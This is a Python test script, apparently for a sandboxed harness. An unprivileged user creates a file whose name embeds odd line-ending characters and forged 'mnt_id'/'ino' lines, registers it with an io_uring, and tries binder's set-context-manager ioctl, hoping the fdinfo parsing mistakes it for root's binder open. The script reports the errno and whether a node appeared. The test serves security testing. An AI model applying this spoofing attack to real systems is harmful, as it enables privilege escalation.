"""Under ``mount.py run``: what becomes of a user who makes an open of root's the context manager.

The user has an io_uring, whose fdinfo shows the names of files. One of them has what ends a line elsewhere, and then
what looks like the mount and the inode of root's open. It prints the errno of the ioctl, and whether there is a node.
"""

import ctypes
import os
import shutil
import sys
import tempfile
from pathlib import Path

_SET_CONTEXT_MGR = 0x40046207
_SETUP, _REGISTER, _REGISTER_FILES = 425, 427, 2


def attack(folder: Path, mount: int, inode: int, end: str) -> int:
    """Do it as user 3000; return the errno of the ioctl."""
    os.setgroups([])
    os.setresgid(3000, 3000, 3000)
    os.setresuid(3000, 3000, 3000)
    libc = ctypes.CDLL(None, use_errno=True)
    ring = libc.syscall(_SETUP, 8, ctypes.create_string_buffer(120))
    name = folder / f"{end}mnt_id:\t{mount}{end}ino:\t{inode}{end}mnt_id:{mount}{end}ino:{inode}"
    file = os.open(name, os.O_CREAT | os.O_RDWR)
    if ring < 0 or libc.syscall(_REGISTER, ring, _REGISTER_FILES, (ctypes.c_int * 1)(file), 1):
        return -1
    result = libc.ioctl(ring, _SET_CONTEXT_MGR, None)
    return ctypes.get_errno() if result else 0


def main() -> None:
    """Open the device as root, and have the user try it with each sign that may end a line."""
    device = os.open("/dev/binderfs/binder", os.O_RDWR)
    info = dict(line.split(":\t") for line in Path(f"/proc/self/fdinfo/{device}").read_text().split("\n")[:4])
    for end in ("\x0b", "\x0c", "\r", "\x1c", "\x85", "\u2028"):
        folder = Path(tempfile.mkdtemp())
        folder.chmod(0o777)
        child = os.fork()
        if not child:
            os.close(device)
            os._exit(attack(folder, int(info["mnt_id"]), int(info["ino"]), end) & 0xFF)
        _, status = os.waitpid(child, 0)
        shutil.rmtree(folder)
        node = "\n  node " in Path("/dev/binderfs/binder_logs/state").read_text()
        sys.stdout.write(f"{os.waitstatus_to_exitcode(status)} {node}\n")


if __name__ == "__main__":
    main()
